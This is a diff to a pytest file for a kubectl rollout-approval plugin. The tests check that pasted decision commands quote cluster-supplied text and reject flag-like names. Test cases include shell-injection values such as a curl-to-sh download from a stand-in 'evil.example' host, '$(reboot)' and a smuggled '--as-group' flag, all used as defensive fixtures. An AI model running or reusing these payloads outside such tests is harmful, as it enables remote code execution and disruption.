@@ -267,17 +267,15 @@ def test_sections(situation, make, now, first, end, expected):
 DECIDE = "Decide on exactly this: kubectl aicr "
 # (rollout, the decision describe offers to paste, bound to what it showed; None: it waits on no one's decision)
 DECISIONS = [
-    ("awaiting-approval", "approve rollout-7953c836e83feab1-1 --reason TEXT --expect-uid "
-     "0d1e2f30-4a5b-4c6d-8e7f-9a0b1c2d3e02 --expect-digest sha256:7953c836e83feab1 --expect-assessment "
-     "sha256:1fe4b7b6efde54dd"),
-    ("no-assessment", "approve rollout-7750c21af8247e72-1 --reason TEXT --expect-uid "
-     "0d1e2f30-4a5b-4c6d-8e7f-9a0b1c2d3e0c --expect-digest sha256:7750c21af8247e72"),
-    ("approved-rolling-out", "revoke rollout-e218ed4ca55ec015-1 --reason TEXT --expect-uid "
-     "0d1e2f30-4a5b-4c6d-8e7f-9a0b1c2d3e04 --expect-digest sha256:e218ed4ca55ec015 --expect-assessment "
-     "sha256:794ad085c5de8dad"),
-    ("awaiting-acknowledgement", "acknowledge rollout-9b1be94d38a77b42-1 --release nvsentinel --expect-uid "
-     "0d1e2f30-4a5b-4c6d-8e7f-9a0b1c2d3e06 --expect-digest sha256:9b1be94d38a77b42 --expect-assessment "
-     "sha256:1fe4b7b6efde54dd"),
+    ("awaiting-approval", "approve rollout-7953c836e83feab1-1 --expect-uid=0d1e2f30-4a5b-4c6d-8e7f-9a0b1c2d3e02 "
+     "--expect-digest=sha256:7953c836e83feab1 --expect-assessment=sha256:1fe4b7b6efde54dd --reason"),
+    ("no-assessment", "approve rollout-7750c21af8247e72-1 --expect-uid=0d1e2f30-4a5b-4c6d-8e7f-9a0b1c2d3e0c "
+     "--expect-digest=sha256:7750c21af8247e72 --reason"),
+    ("approved-rolling-out", "revoke rollout-e218ed4ca55ec015-1 --expect-uid=0d1e2f30-4a5b-4c6d-8e7f-9a0b1c2d3e04 "
+     "--expect-digest=sha256:e218ed4ca55ec015 --expect-assessment=sha256:794ad085c5de8dad --reason"),
+    ("awaiting-acknowledgement", "acknowledge rollout-9b1be94d38a77b42-1 --release=nvsentinel "
+     "--expect-uid=0d1e2f30-4a5b-4c6d-8e7f-9a0b1c2d3e06 --expect-digest=sha256:9b1be94d38a77b42 "
+     "--expect-assessment=sha256:1fe4b7b6efde54dd"),
     ("install", None), ("revoked", None), ("expired", None), ("succeeded", None), ("failed", None),
 ]
 
@@ -314,8 +312,9 @@ def test_no_decision_is_offered_that_the_command_would_refuse():
 
 
 @pytest.mark.parametrize("release, pasted", [
-    ("x; curl https://evil.example/p | sh", "'x; curl https://evil.example/p | sh'"),
-    ("$(reboot)", "'$(reboot)'"), ("it's", "'it'\"'\"'s'"), ("nv-sentinel_1.2", "nv-sentinel_1.2")])
+    ("x; curl https://evil.example/p | sh", "'--release=x; curl https://evil.example/p | sh'"),
+    ("$(reboot)", "'--release=$(reboot)'"), ("it's", "'--release=it'\"'\"'s'"),
+    ("nv-sentinel_1.2", "--release=nv-sentinel_1.2"), ("--as-group", "--release=--as-group")])
 def test_a_word_from_the_cluster_pastes_as_one_argument(release, pasted):
     """The decision line is shell: the release the rollout waits on (the cluster's text) is quoted so that
     pasting the line runs acknowledge with exactly that --release, nothing else."""
@@ -323,10 +322,32 @@ def test_a_word_from_the_cluster_pastes_as_one_argument(release, pasted):
     obj = fixture("awaiting-acknowledgement")
     obj["status"]["awaitingAcknowledgement"]["release"] = release
     line, = decisions(rendered(obj))
-    assert " --release %s --expect-uid " % pasted in line
+    assert " %s --expect-uid=" % pasted in line
     words = shlex.split(line[len("Decide on exactly this: "):])
-    assert words[:5] == ["kubectl", "aicr", "acknowledge", "rollout-9b1be94d38a77b42-1", "--release"]
-    assert words[5] == release
+    assert words[:5] == ["kubectl", "aicr", "acknowledge", "rollout-9b1be94d38a77b42-1", "--release=" + release]
+
+
+def test_the_line_is_offered_only_for_the_rollout_asked_for_under_a_valid_name():
+    """A server answering a GET for one rollout with another object, or an object whose name could read as a
+    flag, gets no line to paste."""
+    obj = fixture("awaiting-acknowledgement")
+    rollout = objects.rollout(obj)
+    assert describe.binding_lines(rollout, None, "rollout-9b1be94d38a77b42-1")
+    assert describe.binding_lines(rollout, None, "rollout-other-1") == []
+    obj["metadata"]["name"] = "--as-group"
+    assert decisions(rendered(obj)) == []
+
+
+def test_pasted_as_it_is_approve_refuses_and_writes_nothing():
+    """The line ends with --reason and no value: pasted without a reason, pflag's "flag needs an argument"."""
+    import shlex
+    from kubectl_aicr import cli
+    from kubectl_aicr.errors import UsageError
+    line, = decisions(rendered(fixture("awaiting-approval")))
+    words = shlex.split(line[len("Decide on exactly this: "):])
+    with pytest.raises(UsageError, match="flag needs an argument: --reason"):
+        cli.parse(words[2:])
+    assert cli.parse(words[2:] + ["window CHG-1"]).reason == "window CHG-1"
 
 
 def test_a_word_that_cannot_be_shown_as_it_is_offers_no_line():
